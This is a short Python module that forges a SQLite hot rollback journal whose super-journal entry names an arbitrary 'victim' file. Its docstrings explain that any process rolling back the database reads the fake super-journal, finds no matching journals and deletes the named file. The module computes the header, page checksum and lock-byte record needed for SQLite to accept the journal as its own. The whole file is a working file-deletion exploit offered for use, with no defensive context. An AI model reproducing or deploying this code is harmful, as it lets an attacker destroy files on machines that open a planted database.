"""A journal that SQLite takes for one of its own, of a transaction over several files (sqlite.org/fileformat.html §3).

It ends with the name of a super-journal. Whoever rolls the transaction back reads that file for the names of others,
finds that none of them is there, and removes it: whatever file it was.
"""

import struct
from pathlib import Path

MAGIC = bytes((0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7))
SECTOR = 512
PENDING = 0x40000000
"""The byte that SQLite locks; its page is never written."""


def hot_journal(path: Path, victim: Path) -> bytes:
    """A journal of the database at ``path`` in which nothing is to be rolled back, and ``victim`` is to be removed."""
    data = path.read_bytes()
    size = int.from_bytes(data[16:18], "big")
    pages = len(data) // size
    head = MAGIC + struct.pack(">IIIII", 1, 1, pages, SECTOR, size)
    return head.ljust(SECTOR, b"\0") + _page(data[:size], size) + _super(bytes(victim), size)


def _page(content: bytes, size: int) -> bytes:
    """The first page as it is, with the nonce 1 in its checksum."""
    total, place = 1, size - 200
    while place > 0:
        total += content[place]
        place -= 200
    return struct.pack(">I", 1) + content + struct.pack(">I", total & 0xFFFFFFFF)


def _super(name: bytes, size: int) -> bytes:
    checksum = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF
    return struct.pack(">I", PENDING // size + 1) + name + struct.pack(">II", len(name), checksum) + MAGIC
